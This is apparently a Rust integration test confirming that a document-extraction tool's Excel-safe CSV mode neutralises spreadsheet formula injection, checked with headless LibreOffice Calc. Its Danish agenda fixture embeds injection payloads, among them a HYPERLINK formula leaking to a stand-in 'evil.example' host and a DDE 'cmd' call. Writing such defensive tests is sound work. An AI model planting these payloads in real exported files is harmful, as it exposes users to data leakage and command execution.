//! Spreadsheet-safe output: a document whose text looks like formulas (`=HYPERLINK(…)`,
//! `=cmd|' /C calc'!A0`, `@SUM(…)`, `+45 70 10 10 10`, list items `- at …`, `-5 %`) read with
//! `--excel-csv --format csv,xlsx`. The `--excel-csv` files opened in a real spreadsheet program
//! (LibreOffice Calc, headless: `soffice --convert-to xlsx`, read back with calamine) hold no
//! formula, and every cell shows the text the file holds; the same files in the standard dialect
//! do give formulas there (so the check can fail); the workbook stores such text as text.
//!
//! Needs LibreOffice Calc (Debian: libreoffice-calc-nogui) for the spreadsheet part: skipped
//! without it unless `KL_EXTRACT_REQUIRE_SYSTEM_TOOLS=1`, then it fails.

use std::path::Path;
use std::process::Command;

use calamine::{open_workbook, Data, Reader, Xlsx};

const DOCUMENT: &str = r#"Dagsorden

Økonomiudvalget

Dato: 3. marts 2021
Tidspunkt: kl. 16:00
Sted: Rådhuset, mødelokale 1

1. Regnskab 2020
Sagsnr.: 21/1234

Sagsfremstilling
=HYPERLINK("http://evil.example/?leak","Klik her")

Indstilling
- at regnskabet godkendes
- at overskuddet overføres

Bilag
1. =cmd|' /C calc'!A0
2. @SUM(A1:A9) oversigt

2. Telefonliste
Sagsnr.: 21/1235

Sagsfremstilling
+45 70 10 10 10 er kommunens nummer.

Indstilling
-5 % i besparelse, -12,5 mio. kr. i alt.
"#;

fn required() -> bool {
    std::env::var("KL_EXTRACT_REQUIRE_SYSTEM_TOOLS").is_ok_and(|v| v == "1")
}

fn run(input: &Path, out: &Path, extra: &[&str]) {
    let status = Command::new(env!("CARGO_BIN_EXE_kl-extract"))
        .arg(input)
        .arg("--out")
        .arg(out)
        .arg("--quiet")
        .args(extra)
        .status()
        .unwrap();
    assert!(status.success());
}

fn input() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("dagsorden_formler.txt"), DOCUMENT).unwrap();
    dir
}

/// The CSV file's fields (after its byte-order mark), row by row.
fn fields(path: &Path, delimiter: u8) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).unwrap();
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(&bytes);
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// `csv` opened by LibreOffice Calc (`;` or `,` between fields, UTF-8) and saved as a workbook:
/// its cells and its formulas.
fn calc(csv: &Path, delimiter: u8, work: &Path) -> (calamine::Range<Data>, usize) {
    let profile = work.join("profile");
    let filter = format!("CSV:{delimiter},34,76,1");
    let o = Command::new("soffice")
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.display()
        ))
        .args(["--headless", "--convert-to", "xlsx"])
        .arg(format!("--infilter={filter}"))
        .arg("--outdir")
        .arg(work)
        .arg(csv)
        .output()
        .unwrap();
    let xlsx = work.join(csv.file_stem().unwrap()).with_extension("xlsx");
    assert!(
        xlsx.exists(),
        "LibreOffice did not convert {}: {}",
        csv.display(),
        String::from_utf8_lossy(&o.stderr)
    );
    let mut wb: Xlsx<_> = open_workbook(&xlsx).unwrap();
    let name = wb.sheet_names()[0].clone();
    let formulas = wb
        .worksheet_formula(&name)
        .unwrap()
        .cells()
        .filter(|(_, _, f)| !f.is_empty())
        .count();
    (wb.worksheet_range(&name).unwrap(), formulas)
}

fn have_calc() -> bool {
    let ok = Command::new("soffice")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        assert!(!required(), "LibreOffice (soffice) is required but missing");
        eprintln!("SKIPPED: LibreOffice Calc not found (Debian: libreoffice-calc-nogui)");
    }
    ok
}

#[test]
fn excel_csv_opens_as_text_in_libreoffice_calc() {
    let input = input();
    let excel = tempfile::tempdir().unwrap();
    run(
        input.path(),
        excel.path(),
        &["--excel-csv", "--format", "csv,xlsx"],
    );
    let plain = tempfile::tempdir().unwrap();
    run(input.path(), plain.path(), &[]);

    // The standard CSV keeps the text exactly; the Excel CSV puts a ' before formula-like text.
    let sections = fields(&plain.path().join("sections.csv"), b',');
    assert!(sections.iter().any(|r| r[4].starts_with("=HYPERLINK(")));
    let excel_sections = fields(&excel.path().join("sections.csv"), b';');
    assert!(excel_sections
        .iter()
        .any(|r| r[4].starts_with("'=HYPERLINK(")));
    assert!(excel_sections
        .iter()
        .any(|r| r[4].starts_with("'- at regnskabet")));
    let attachments = fields(&excel.path().join("attachments.csv"), b';');
    assert!(attachments.iter().any(|r| r[3] == "'=cmd|' /C calc'!A0"));
    assert!(attachments.iter().any(|r| r[3] == "'@SUM(A1:A9) oversigt"));

    // The workbook stores such text as text, never as a formula.
    let mut wb: Xlsx<_> = open_workbook(excel.path().join("kl-extract.xlsx")).unwrap();
    for sheet in ["items", "sections", "attachments"] {
        let f = wb.worksheet_formula(sheet).unwrap();
        assert_eq!(
            f.cells().filter(|(_, _, f)| !f.is_empty()).count(),
            0,
            "{sheet}"
        );
    }
    let r = wb.worksheet_range("sections").unwrap();
    assert!(r
        .cells()
        .any(|(_, _, c)| matches!(c, Data::String(s) if s.starts_with("=HYPERLINK("))));

    if !have_calc() {
        return;
    }
    let work = tempfile::tempdir().unwrap();
    for name in ["items.csv", "sections.csv", "attachments.csv", "pages.csv"] {
        let path = excel.path().join(name);
        let (range, formulas) = calc(&path, b';', work.path());
        assert_eq!(
            formulas, 0,
            "{name}: LibreOffice made formulas of the Excel CSV"
        );
        let want = fields(&path, b';');
        let mut text_cells = 0;
        for (r, row) in want.iter().enumerate() {
            for (c, field) in row.iter().enumerate() {
                let got = range.get((r, c)).cloned().unwrap_or(Data::Empty);
                match got {
                    Data::String(s) => {
                        text_cells += 1;
                        assert_eq!(&s, field, "{name} row {r} col {c}: shown otherwise");
                    }
                    Data::Float(x) => assert_eq!(
                        field.replace(',', ".").parse::<f64>().ok(),
                        Some(x),
                        "{name} row {r} col {c}: {field:?} read as the number {x}"
                    ),
                    Data::Int(x) => assert_eq!(field.parse::<i64>().ok(), Some(x), "{name}"),
                    Data::Bool(b) => assert_eq!(field.to_lowercase(), b.to_string(), "{name}"),
                    Data::Empty => assert!(field.is_empty(), "{name} row {r} col {c}"),
                    other => panic!("{name} row {r} col {c}: {other:?} for {field:?}"),
                }
            }
        }
        assert!(text_cells > 5, "{name}");
    }
    // Negative numbers stay numbers: "-5" alone in a cell reads as -5.
    let neg = work.path().join("neg.csv");
    std::fs::write(&neg, "\u{feff}a;b\r\n-5;'- at …\r\n").unwrap();
    let (range, formulas) = calc(&neg, b';', work.path());
    assert_eq!(formulas, 0);
    assert_eq!(range.get((1, 0)), Some(&Data::Float(-5.0)));
    // Without the ', the same text is a formula in LibreOffice: the check above can fail.
    let (_, formulas) = calc(&plain.path().join("sections.csv"), b',', work.path());
    assert!(
        formulas > 0,
        "the standard CSV's =HYPERLINK( is a formula in a spreadsheet"
    );
}
